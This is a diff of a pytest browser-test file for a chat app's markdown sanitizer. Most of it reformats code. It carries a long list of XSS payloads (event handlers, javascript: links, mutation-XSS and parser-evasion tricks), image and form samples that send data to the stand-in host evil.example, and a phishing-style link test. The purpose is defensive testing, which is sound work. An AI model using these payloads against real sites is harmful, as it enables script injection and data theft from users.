@@ -13,12 +13,12 @@ pytestmark = pytest.mark.browser
 RUN = "window.__ran=1"
 SAMPLES = [
     f"<script>{RUN}</script>",
-    f"<img src=x onerror=\"{RUN}\">",
-    f"<svg onload=\"{RUN}\"></svg>",
+    f'<img src=x onerror="{RUN}">',
+    f'<svg onload="{RUN}"></svg>',
     f"<svg><script>{RUN}</script></svg>",
-    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
-    "<iframe src=\"https://evil.example/frame\"></iframe>",
-    f"<a href=\"javascript:{RUN}\">press</a>",
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    '<iframe src="https://evil.example/frame"></iframe>',
+    f'<a href="javascript:{RUN}">press</a>',
     f"[press](javascript:{RUN})",
     f"[press](JaVaScRiPt:{RUN})",
     f"[press](&#106;avascript:{RUN})",
@@ -28,7 +28,7 @@ SAMPLES = [
     f"[press](vbscript:{RUN})",
     f"<javascript:{RUN}>",
     f"[press][r]\n\n[r]: javascript:{RUN}",
-    f"![x](https://evil.example/p.png?q=secret \"onerror={RUN}\")",
+    f'![x](https://evil.example/p.png?q=secret "onerror={RUN}")',
     "![x](https://evil.example/pixel.png)",
     "![x](//evil.example/pixel.png)",
     "![x](/api/sessions)",
@@ -37,21 +37,21 @@ SAMPLES = [
     "<link rel=stylesheet href=https://evil.example/a.css>",
     "<style>@import url(https://evil.example/a.css); body{display:none}</style>",
     "<style>#messages{display:none}</style>",
-    "<div style=\"position:fixed;inset:0;background:url(https://evil.example/b)\">cover</div>",
-    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
-    "<base href=\"https://evil.example/\">",
+    '<div style="position:fixed;inset:0;background:url(https://evil.example/b)">cover</div>',
+    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+    '<base href="https://evil.example/">',
     "<form action=https://evil.example/><input name=q autofocus><button>send</button></form>",
     "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
     "<video poster=https://evil.example/v.png src=https://evil.example/v.mp4 autoplay></video>",
-    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
-    f"<details open ontoggle=\"{RUN}\">x</details>",
-    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
-    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=20>x</text></a></svg>",
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
+    f'<details open ontoggle="{RUN}">x</details>',
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
+    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
     f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\"/></svg>",
     f"<template><script>{RUN}</script></template>",
     "<a id=text name=text>clobber</a><img name=body><form id=messages></form>",
     f"```html\n<script>{RUN}</script>\n```",
-    f"```\"><img src=x onerror={RUN}>\nx\n```",
+    f'```"><img src=x onerror={RUN}>\nx\n```',
     f"`<img src=x onerror={RUN}>`",
     f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
     f"# <img src=x onerror={RUN}>",
@@ -62,13 +62,49 @@ SAMPLES = [
     f"<<script>{RUN}//<</script>",
     f"<scr<script>ipt>{RUN}</scr</script>ipt>",
     f"\u202e<script>{RUN}</script>",
-    f"<https://evil.example/\"onmouseover=\"{RUN}>",
-    f"https://evil.example/\"onmouseover=\"{RUN}",
-    f"[x](https://evil.example/ \"t\" onmouseover={RUN})",
+    f'<https://evil.example/"onmouseover="{RUN}>',
+    f'https://evil.example/"onmouseover="{RUN}',
+    f'[x](https://evil.example/ "t" onmouseover={RUN})',
 ]
-ALLOWED = {"A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "H1", "HR", "LI", "OL", "P", "PRE", "SPAN", "STRONG",
-           "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL"}
-ATTRIBUTES = {"align", "aria-label", "class", "dir", "href", "rel", "role", "start", "tabindex", "target", "title", "type"}
+ALLOWED = {
+    "A",
+    "BLOCKQUOTE",
+    "BR",
+    "BUTTON",
+    "CODE",
+    "DEL",
+    "DIV",
+    "EM",
+    "H3",
+    "HR",
+    "LI",
+    "OL",
+    "P",
+    "PRE",
+    "SPAN",
+    "STRONG",
+    "TABLE",
+    "TBODY",
+    "TD",
+    "TH",
+    "THEAD",
+    "TR",
+    "UL",
+}
+ATTRIBUTES = {
+    "align",
+    "aria-label",
+    "class",
+    "dir",
+    "href",
+    "rel",
+    "role",
+    "start",
+    "tabindex",
+    "target",
+    "title",
+    "type",
+}
 
 
 def assert_harmless(page):
@@ -102,15 +138,21 @@ def test_html_is_shown_as_the_text_that_it_is(page, open_session, site):
     site.model.scripts.append("Use <b>bold</b> & <script>alert(1)</script> here.\n\n<div>block</div>")
     say(page, "go")
     wait_until_quiet(page)
-    expect(page.locator(".from-bot .md")).to_have_text("Use <b>bold</b> & <script>alert(1)</script> here.<div>block</div>")
+    expect(page.locator(".from-bot .md")).to_have_text(
+        "Use <b>bold</b> & <script>alert(1)</script> here.<div>block</div>"
+    )
 
 
 def test_a_link_says_where_it_leads_and_opens_without_a_way_back(page, open_session, site):
     open_session()
-    site.model.scripts.append("[your bank](https://evil.example/login) https://plain.example/x [mail](mailto:a@b.example)")
+    site.model.scripts.append(
+        "[your bank](https://evil.example/login) https://plain.example/x [mail](mailto:a@b.example)"
+    )
     say(page, "go")
     wait_until_quiet(page)
-    expect(page.locator(".from-bot .md a")).to_have_text(["your bank (evil.example)", "https://plain.example/x", "mail (a@b.example)"])
+    expect(page.locator(".from-bot .md a")).to_have_text(
+        ["your bank (evil.example)", "https://plain.example/x", "mail (a@b.example)"]
+    )
     link = page.locator(".from-bot .md a").first
     assert link.get_attribute("rel") == "noopener noreferrer nofollow"
     assert link.get_attribute("title") == "https://evil.example/login"
@@ -118,7 +160,11 @@ def test_a_link_says_where_it_leads_and_opens_without_a_way_back(page, open_sess
 
 def test_names_titles_and_errors_are_text_too(page, site):
     sample = f"<img src=x onerror={RUN}>"
-    bot = site.api("POST", "/api/bots", {"name": sample, "color": "#123456", "persona": sample, "greeting": sample, "sampling": {}})["bot"]
+    bot = site.api(
+        "POST",
+        "/api/bots",
+        {"name": sample, "color": "#123456", "persona": sample, "greeting": sample, "sampling": {}},
+    )["bot"]
     session_id = site.session(bot["id"], title=sample, system_prompt=sample, user_name="<b>me</b>")
     go_to(page, session_id)
     say(page, "fail")
@@ -132,9 +178,19 @@ def test_names_titles_and_errors_are_text_too(page, site):
     site.api("DELETE", f"/api/bots/{bot['id']}")
 
 
-@pytest.mark.parametrize("text", ["> " * 4000 + "deep", "- " * 3000 + "x", "[" * 20_000, "*" * 20_000, "`" * 20_000, "<" * 20_000,
-                                  "| a " * 2000 + "|\n" + "|---" * 2000 + "|"],
-                         ids=["quotes", "lists", "brackets", "stars", "ticks", "angles", "columns"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "> " * 4000 + "deep",
+        "- " * 3000 + "x",
+        "[" * 20_000,
+        "*" * 20_000,
+        "`" * 20_000,
+        "<" * 20_000,
+        "| a " * 2000 + "|\n" + "|---" * 2000 + "|",
+    ],
+    ids=["quotes", "lists", "brackets", "stars", "ticks", "angles", "columns"],
+)
 def test_text_that_is_made_to_choke_a_parser_is_shown(page, site, text):
     go_to(page, site.import_path(["Hello", text, "and after"]))
     expect(page.locator(".from-user .md").last).to_have_text("and after")
